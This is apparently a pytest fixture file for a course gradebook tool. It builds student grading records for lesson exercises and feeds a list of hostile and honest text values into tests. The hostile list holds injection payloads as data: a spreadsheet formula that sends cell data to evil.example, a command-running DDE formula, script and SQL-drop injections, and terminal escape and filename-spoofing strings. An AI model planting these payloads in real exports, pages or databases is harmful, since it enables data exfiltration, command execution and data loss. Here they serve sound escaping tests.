"""Students with marks in exercises of lessons 1.3 and 1.4, 40 points: two cases per exercise, each worth half of it."""

from collections.abc import Callable, Sequence
from fractions import Fraction

import pytest

from shardlab.grade.gradebook.record import CaseRecord, RankRecord, Verdict
from shardlab.grade.gradebook.standing import Standing, Student, marks_of
from shardlab.grade.manifest import Exercise
from shardlab.syllabus import lesson

POINTS = {
    "1.3": {"exchange": 4, "broadcast": 6, "ring_all_reduce": 12},
    "1.4": {"meet": 9, "replay": 3, "slow_ranks": 6},
}
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    '"; DROP TABLE students; --',
    "{{ 7*7 }}{% raw %}",
    "a,b\nc;d\r\ne",
    "nul\0here",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b[2J \x9b1m",
    "\u202egnp.exe\u202c",
    "half \ud800 a character",
    "Points Possible",
    "x" * 5000,
    "",
]
HONEST = ["Łukasz Żółć", "محمد بن موسى الخوارزمي", "王小云", "O'Brien, Pat", "Zoë 🧮 von der Höhe"]


@pytest.fixture(scope="session")
def declared() -> list[Exercise]:
    return [
        Exercise(lesson(id), name, points) for id, of_lesson in POINTS.items() for name, points in of_lesson.items()
    ]


def case_of(exercise: Exercise, number: int, verdict: Verdict, message: str = "", **more: object) -> CaseRecord:
    test = f"tests/day/test_topic.py::test_{exercise.name}_values[{number} ranks]"
    share = Fraction(exercise.points, 2)
    return CaseRecord(exercise.lesson.id, exercise.name, test, share, verdict, message, 0.25, **more)


@pytest.fixture
def standing_of(declared: list[Exercise]) -> Callable[..., Standing]:
    """A student all of whose cases end with `verdict`, but for the second of those that are named."""

    def make(
        id: str = "s1",
        name: str = "Ada Lovelace",
        email: str = "ada@example.org",
        verdict: Verdict = Verdict.PASSED,
        problems: Sequence[str] = (),
        ranks: tuple[RankRecord, ...] = (),
        cause: int | None = None,
        **second: tuple[Verdict, str],
    ) -> Standing:
        records = []
        for exercise in declared:
            records.append(case_of(exercise, 1, verdict))
            other, message = second.get(exercise.name, (verdict, ""))
            records.append(case_of(exercise, 2, other, message, ranks=ranks, cause=cause))
        return Standing(Student(id, name, email), "ab" * 32, tuple(problems), marks_of(declared, records))

    return make


@pytest.fixture
def absent_of(declared: list[Exercise]) -> Callable[..., Standing]:
    """A student of whom nothing was graded."""

    def make(id: str, *problems: str) -> Standing:
        return Standing(Student(id, "Nobody Home", ""), None, problems, marks_of(declared, []))

    return make


@pytest.fixture(params=[*HOSTILE, *HONEST], ids=lambda text: ascii(text)[:24])
def any_text(request: pytest.FixtureRequest) -> str:
    return request.param
